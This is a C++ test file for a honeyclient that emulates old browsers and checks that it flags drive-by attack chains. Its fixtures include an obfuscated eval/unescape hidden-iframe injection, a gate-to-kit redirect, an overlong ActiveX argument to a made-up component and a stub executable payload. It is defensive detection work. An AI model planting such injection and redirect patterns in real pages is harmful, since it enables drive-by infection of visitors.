#include "honeyclient/low/persona.h"

#include <algorithm>

#include "honeyclient/low/visit_test.h"

namespace shikake::honeyclient::low {
namespace {

TEST(Personas, ThereAreThree) {
  EXPECT_EQ(persona_names(), (std::vector<std::string>{"chrome-win10", "firefox-win7", "ie8-winxp"}));
  auto none = find_persona("lynx");
  ASSERT_FALSE(none);
  EXPECT_NE(none.error().what.find("ie8-winxp"), std::string::npos);
}

class EachPersona : public ::testing::TestWithParam<std::string> {};

// What the server is told and what script is told must not contradict each other.
TEST_P(EachPersona, AgreesWithItself) {
  auto persona = find_persona(GetParam());
  ASSERT_TRUE(persona) << persona.error().message();
  EXPECT_EQ(persona->name, GetParam());
  Sites sites(Sites::Pages{
      {"/",
       "<script>document.write('<img src=\"/i?' + escape([navigator.userAgent, navigator.language,"
       "screen.width + 'x' + screen.height, typeof ActiveXObject, typeof document.all, typeof attachEvent,"
       "typeof MutationObserver, typeof chrome, navigator.plugins.length, new "
       "Date(0).getTimezoneOffset()].join('|')) + '\">')"
       "</script>"}});
  VisitOptions options = local_visit(sites.url());
  options.persona = GetParam();
  visit_or_fail(options);
  ASSERT_EQ(sites.requests().size(), 2u);
  std::string request = sites.requests()[1];
  size_t at = request.find("User-Agent: ") + 12;
  EXPECT_EQ(request.substr(at, request.find("\r\n", at) - at), persona->user_agent);
  bool trident = persona->engine == Engine::trident, blink = persona->engine == Engine::blink;
  std::string want =
      persona->user_agent + "|" + persona->language + "|" + std::to_string(persona->screen_width) + "x" +
      std::to_string(persona->screen_height) + "|" +
      (trident ? "function|object|function|undefined" : "undefined|undefined|undefined|function") + "|" +
      (blink ? "object" : "undefined") + "|" + std::to_string(persona->plugins.size()) + "|300";
  std::string told =
      request.substr(request.find("/i?") + 3, request.find(" HTTP/") - request.find("/i?") - 3);
  std::string plain;
  for (size_t i = 0; i < told.size(); ++i) {
    if (told[i] == '%') {
      plain += static_cast<char>(std::stoi(told.substr(i + 1, 2), nullptr, 16));
      i += 2;
    } else {
      plain += told[i];
    }
  }
  EXPECT_EQ(plain, want);
}
INSTANTIATE_TEST_SUITE_P(All, EachPersona, ::testing::ValuesIn(persona_names()), [](const auto& row) {
  std::string name = row.param;
  std::ranges::replace(name, '-', '_');
  return name;
});

TEST(Personas, FilesWithFlawsAreRefused) {
  auto named = find_persona("chrome-win10");
  ASSERT_TRUE(named);
  struct {
    const char* name;
    std::string text;
    const char* says;
  } rows[] = {
      {"not toml", "name = ", ""},
      {"no engine", "name = 'x'\ndescription = 'x'\n", "engine"},
      {"number for text", "name = 1\n", "name"},
  };
  for (const auto& row : rows) {
    auto persona = parse_persona(row.text, "x.toml");
    ASSERT_FALSE(persona) << row.name;
    EXPECT_NE(persona.error().message().find(row.says), std::string::npos) << persona.error().message();
  }
}

TEST(Components, OverlongArgumentsConvict) {
  // A specimen: the letter A, many times, to a component that is not there.
  struct {
    const char* name;
    const char* script;
    intel::VisitVerdict verdict;
  } rows[] = {
      {"overlong", "new ActiveXObject('Specimen.Player.1').Open(Array(4097).join('A'))",
       intel::VisitVerdict::malicious},
      {"property", "new ActiveXObject('Specimen.Player.1').Source = Array(4097).join('A')",
       intel::VisitVerdict::malicious},
      {"short", "new ActiveXObject('Specimen.Player.1').Open('song.mp3')", intel::VisitVerdict::benign},
      {"class_id", "o.Open(Array(4097).join('A'))", intel::VisitVerdict::malicious},
      {"class_id_property", "o.Url = Array(4097).join('A')", intel::VisitVerdict::malicious},
      {"walks_for_ever", "for (var p = new ActiveXObject('A.B'); p; p = p.Next());",
       intel::VisitVerdict::benign},
  };
  for (const auto& row : rows) {
    VisitOptions options = local_visit("http://page.example/");
    options.offline = true;
    options.persona = "ie8-winxp";
    options.content = "<object id=o classid='clsid:00000000-0000-0000-0000-000000000001'></object><script>" +
                      std::string(row.script) + "</script>";
    intel::VisitRecord visit = visit_or_fail(options);
    EXPECT_EQ(intel::name(visit.verdict), intel::name(row.verdict)) << row.name;
    EXPECT_FALSE(visit.components.empty()) << row.name;
    if (row.verdict != intel::VisitVerdict::malicious) continue;
    EXPECT_EQ(visit.nodes[0].role, intel::Role::exploit) << row.name;
    EXPECT_NE(visit.reasons.at(0).find("4096 characters"), std::string::npos) << visit.reasons.at(0);
  }
}

std::string program() {
  std::string body(256, '\0');
  body.replace(0, 2, "MZ");
  body[60] = 64;
  body.replace(64, 2, "PE");
  return body;
}

TEST(Chain, FromLandingToDistribution) {
  const std::string file = "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n" + program();
  Sites sites(Sites::Pages{{"/",
                            "<p>shop<script>eval(unescape('document.write(%22<iframe src={b}/gate "
                            "width=1></iframe>%22)'))</script>"},
                           {"/gate", "HTTP/1.1 302 Found\r\nLocation: /kit\r\n\r\n"},
                           {"/kit",
                            "<script>new ActiveXObject('Specimen.Player').Open(Array(2001).join('A')); "
                            "location = '/load.exe'</script>"},
                           {"/load.exe", file},
                           {"/cdn.js", "x"}});
  VisitOptions options = local_visit(sites.url());
  options.persona = "ie8-winxp";
  KeptBlobs blobs;
  intel::VisitRecord visit = visit_or_fail(options, blobs);
  EXPECT_EQ(intel::name(visit.verdict), "malicious");
  std::map<std::string, std::string> roles;
  for (const intel::VisitNode& node : visit.nodes) {
    roles[sites.named(node.url)] = node.role ? intel::name(*node.role) : "-";
    if (node.role != intel::Role::distribution) continue;
    EXPECT_EQ(blobs.kept[node.sha256->hex()], program());
  }
  EXPECT_EQ(roles, (std::map<std::string, std::string>{{"{a}/", "landing"},
                                                       {"{b}/gate", "relay"},
                                                       {"{b}/kit", "exploit"},
                                                       {"{b}/load.exe", "distribution"}}));
  intel::Observation observation = to_observation(visit, base::TimePoint(), "test");
  EXPECT_TRUE(intel::visit_from_json(observation.record));
  EXPECT_EQ(observation.subject, sites.url());
}

TEST(Chain, ADownloadLinkIsNoAttack) {
  const std::string file = "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\n" + program();
  Sites sites(Sites::Pages{{"/", "<a href={b}/setup.exe>get it</a>"},
                           {"/direct", "HTTP/1.1 302 Found\r\nLocation: {b}/setup.exe\r\n\r\n"},
                           {"/setup.exe", file}});
  EXPECT_EQ(visit_or_fail(local_visit(sites.url())).edges.size(), 0u);
  intel::VisitRecord direct = visit_or_fail(local_visit(sites.url("/direct")));
  EXPECT_EQ(intel::name(direct.verdict), "benign");
  EXPECT_EQ(direct.edges.size(), 1u);
}

}  // namespace
}  // namespace shikake::honeyclient::low
